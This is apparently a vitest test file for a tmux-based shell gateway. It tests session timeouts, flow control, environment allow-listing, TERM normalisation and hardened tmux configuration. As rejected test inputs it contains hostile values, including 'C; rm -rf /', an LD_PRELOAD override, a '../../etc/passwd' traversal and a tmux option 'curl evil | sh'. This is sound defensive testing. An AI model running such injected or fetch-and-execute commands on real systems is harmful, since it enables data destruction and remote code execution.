import { describe, expect, it } from 'vitest';
import { FakeClock } from '../../src/platform/clock.js';
import { silentLogger } from '../../src/platform/logger.js';
import { ShellSession, clampSize, type TerminalChannel } from '../../src/session/shell-session.js';
import type { Pty } from '../../src/platform/pty.js';
import { shellEnv, normaliseTerm, envAllowed } from '../../src/session/env.js';
import { tmuxConf, checkTmuxOptions } from '../../src/host/tmux.js';

/** A pty fake that records what it was told; the real one is exercised by the integration tests. */
function fakePty() {
  const calls: string[] = [];
  let dataFn: (d: Buffer) => void = () => {};
  const p: Pty & { emit(d: string): void; calls: string[] } = {
    pid: 1,
    tty: null,
    calls,
    onData: (fn) => (dataFn = fn),
    onExit: () => {},
    write: (d) => void calls.push(`write:${d.toString()}`),
    resize: (c, r) => void calls.push(`resize:${c}x${r}`),
    pause: () => void calls.push('pause'),
    resume: () => void calls.push('resume'),
    kill: (s) => void calls.push(`kill:${s}`),
    emit: (d) => dataFn(Buffer.from(d)),
  };
  return p;
}

function fakeChannel(full = false) {
  const written: string[] = [];
  let dataFn: (d: Buffer) => void = () => {};
  let drain: (() => void) | null = null;
  let exited: number | null = null;
  const c: TerminalChannel & { written: string[]; type(s: string): void; drain(): void; exited(): number | null } = {
    written,
    write: (d) => (written.push(d.toString()), !full),
    onceDrain: (fn) => (drain = fn),
    onData: (fn) => (dataFn = fn),
    onClose: () => {},
    exitAndClose: (code) => (exited = code),
    type: (s) => dataFn(Buffer.from(s)),
    drain: () => drain?.(),
    exited: () => exited,
  };
  return c;
}

const opts = {
  id: 's1',
  spawn: { file: 'tmux', args: [], cwd: '/', env: {}, cols: 80, rows: 24, term: 'xterm' },
  idleTimeoutMs: 15 * 60_000,
  idleWarningMs: 60_000,
  maxSessionMs: 12 * 3_600_000,
};

describe('shell session', () => {
  it('warns a minute before the idle timeout, resets on input, then logs off with a message', async () => {
    const clock = new FakeClock();
    const pty = fakePty();
    const ch = fakeChannel();
    const s = new ShellSession(opts, { clock, logger: silentLogger(), spawnPty: () => pty });
    const ended: string[] = [];
    s.onEnd((r) => ended.push(r));
    s.start(ch);
    clock.advance(14 * 60_000);
    expect(ch.written.join('')).toContain('you will be logged off in 60 seconds');
    ch.type('x'); // input resets the idle clock
    clock.advance(14 * 60_000 - 1);
    expect(ended).toEqual([]);
    clock.advance(60_001);
    expect(ended).toEqual(['idle-timeout']);
    expect(ch.written.join('')).toContain('logged off after 15 minutes without input');
    expect(pty.calls).toContain('kill:SIGHUP');
    expect(ch.exited()).toBe(0);
  });

  it('output alone (a busy program) does not keep a session alive', async () => {
    const clock = new FakeClock();
    const pty = fakePty();
    const ch = fakeChannel();
    const s = new ShellSession(opts, { clock, logger: silentLogger(), spawnPty: () => pty });
    s.start(ch);
    for (let i = 0; i < 15; i++) {
      pty.emit('tick\r\n');
      clock.advance(60_000);
    }
    expect(s.endReason).toBe('idle-timeout');
  });

  it('ends at the maximum session time even with input', async () => {
    const clock = new FakeClock();
    const ch = fakeChannel();
    const s = new ShellSession({ ...opts, maxSessionMs: 10 * 60_000 }, { clock, logger: silentLogger(), spawnPty: () => fakePty() });
    s.start(ch);
    for (let i = 0; i < 10; i++) {
      ch.type('a');
      clock.advance(60_000);
    }
    expect(s.endReason).toBe('max-session-time');
  });

  it('pauses the pty while the client window is full and resumes on drain', async () => {
    const pty = fakePty();
    const ch = fakeChannel(true);
    const s = new ShellSession(opts, { clock: new FakeClock(), logger: silentLogger(), spawnPty: () => pty });
    s.start(ch);
    expect(s.waitingForClient).toBe(false);
    pty.emit('lots of output');
    expect(pty.calls).toContain('pause');
    expect(s.waitingForClient).toBe(true); // what /metrics counts as sessions_waiting_for_client
    ch.drain();
    expect(pty.calls).toContain('resume');
    expect(s.waitingForClient).toBe(false);
  });

  it("stops taking the user's input while the pty does not take it, and takes it again once the pty has", async () => {
    const pty = fakePty();
    let full = true;
    let writable: (() => void) | null = null;
    pty.write = (d) => (pty.calls.push(`write:${d.toString()}`), !full);
    pty.onceWritable = (fn) => (writable = fn);
    const ch = fakeChannel();
    const paused: string[] = [];
    ch.pause = () => void paused.push('pause');
    ch.resume = () => void paused.push('resume');
    const s = new ShellSession(opts, { clock: new FakeClock(), logger: silentLogger(), spawnPty: () => pty });
    s.start(ch);
    ch.type('a big paste');
    expect(paused).toEqual(['pause']);
    expect(s.waitingForPty).toBe(true); // what /metrics counts as sessions_waiting_for_pty
    ch.type('more'); // already on its way when the channel stopped: queued behind, not a second pause
    expect(paused).toEqual(['pause']);
    full = false;
    writable!();
    expect(paused).toEqual(['pause', 'resume']);
    expect(s.waitingForPty).toBe(false);
    expect(pty.calls.filter((c) => c.startsWith('write:'))).toEqual(['write:a big paste', 'write:more']);
  });

  it('ends cleanly when the pty cannot be spawned', async () => {
    const ch = fakeChannel();
    const s = new ShellSession(opts, {
      clock: new FakeClock(),
      logger: silentLogger(),
      spawnPty: () => {
        throw new Error('ENOENT');
      },
    });
    s.start(ch);
    expect(s.endReason).toBe('spawn-failed');
    expect(ch.exited()).toBe(1);
  });

  it('clamps absurd sizes', async () => {
    expect(clampSize(0, 0)).toEqual({ cols: 80, rows: 24 });
    expect(clampSize(100000, 100000)).toEqual({ cols: 1000, rows: 500 });
    expect(clampSize(-5, NaN)).toEqual({ cols: 80, rows: 24 });
    expect(clampSize(1, 1)).toEqual({ cols: 10, rows: 3 });
  });
});

describe('environment and tmux config', () => {
  it('builds the shell environment from nothing but the allow-list', async () => {
    process.env.SHOULD_NOT_LEAK = 'x';
    const env = shellEnv({
      term: 'xterm',
      lang: 'C.UTF-8',
      home: '/home/a',
      user: 'a',
      shell: '/bin/sh',
      gatewayUser: 'alice',
      role: 'ops',
      sessionId: 's',
      clientEnv: { LC_ALL: 'C', LD_PRELOAD: '/x.so', LANG: 'en_US.UTF-8' },
    });
    expect(Object.keys(env).sort()).toEqual([
      'HOME',
      'LANG',
      'LC_ALL',
      'LOGNAME',
      'PATH',
      'SHELL',
      'TERM',
      'TMUXGATE_ROLE',
      'TMUXGATE_SESSION',
      'TMUXGATE_USER',
      'USER',
    ]);
    expect(env.LANG).toBe('en_US.UTF-8');
    expect(envAllowed('LANG', 'C; rm -rf /')).toBe(false);
  });
  it('normalises TERM', async () => {
    expect(normaliseTerm('', 'xterm-256color')).toBe('xterm-256color');
    expect(normaliseTerm('dumb', 'xterm-256color')).toBe('xterm-256color');
    expect(normaliseTerm('no-such-terminal', 'xterm-256color')).toBe('xterm-256color');
    expect(normaliseTerm('../../etc/passwd', 'xterm-256color')).toBe('xterm-256color');
    expect(normaliseTerm('xterm', 'xterm-256color')).toBe('xterm');
  });
  it('generates a hardened tmux.conf and refuses options that could run programs', async () => {
    const role = {
      id: 1,
      name: 'ops',
      kind: 'shell' as const,
      runAs: null,
      allowRoot: false,
      shell: null,
      idleTimeoutMs: null,
      idleWarningMs: null,
      maxSessionMs: null,
      recordInput: false,
      tmuxOptions: { 'history-limit': '5000' },
      createdAt: 0,
      sandbox: null,
    };
    const conf = tmuxConf(role, '/bin/bash');
    expect(conf).not.toContain('alice'); // readable by every account: names no user
    for (const line of ['set -g allow-rename off', 'set -g set-clipboard off', 'set -g allow-passthrough off', 'set -g update-environment ""'])
      expect(conf).toContain(line);
    expect(conf).not.toMatch(/run-shell|if-shell|set-hook/);
    expect(conf).toContain('set -g history-limit "5000"');
    expect(checkTmuxOptions({ 'default-command': 'curl evil | sh' })).toMatch(/not allowed/);
    expect(checkTmuxOptions({ 'history-limit': '1; run-shell x' })).toMatch(/not allowed/);
  });
});

describe('auditor menu keys', () => {
  it('splits one read into keys: characters one by one, arrow sequences whole', async () => {
    const { splitKeys } = await import('../../src/session/auditor-menu.js');
    expect(splitKeys('/abc\r')).toEqual(['/', 'a', 'b', 'c', '\r']);
    expect(splitKeys('\x1b[A\x1b[Bj\x1bOAq')).toEqual(['\x1b[A', '\x1b[B', 'j', '\x1bOA', 'q']);
    expect(splitKeys('\x1b')).toEqual(['\x1b']);
  });
});
